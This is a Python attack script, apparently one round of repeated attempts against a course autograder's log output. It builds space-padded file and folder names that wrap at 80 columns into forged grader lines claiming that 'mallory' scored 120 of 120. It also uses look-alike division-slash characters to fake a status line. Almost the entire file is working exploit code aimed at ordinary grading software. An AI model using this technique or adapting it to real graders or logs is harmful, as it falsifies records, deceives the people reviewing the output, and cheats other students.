"""Round 31, attempt 6: entry names printed whole by batch's notes wrap into forged lines at 80 columns.
Usage: python padded_names.py SUBS HONEST_SUBMISSION_FOLDER
Makes in SUBS: a non-submission file whose name wraps into an ASCII "note: ..." line of the grader's, and a folder and
a zip sharing a padded plain name (the shared-names note prints it whole, four times)."""
import shutil, sys, zipfile
from pathlib import Path
subs, honest = Path(sys.argv[1]), Path(sys.argv[2])
subs.mkdir(parents=True, exist_ok=True)
head = "not submissions, skipped: "
forged = "note: mallory's row is graded 120 of 120 (regraded by hand); nothing to do"
(subs / ("zz" + " " * (80 - len(head) - 2) + forged + " " * (80 - len(forged)) + ".tar.gz")).write_bytes(b"\x1f\x8b")
S = "\u2215"  # DIVISION SLASH: a file name cannot hold '/'
base = "m" + " " * 60 + f"[4{S}4] mallory2: graded, 120{S}120 points (0.9 s) · done" + " " * 20
shutil.copytree(honest, subs / base)
with zipfile.ZipFile(subs / (base + ".zip"), "w") as z:
    for f in (honest / "student").glob("*.py"):
        z.write(f, f"student/{f.name}")
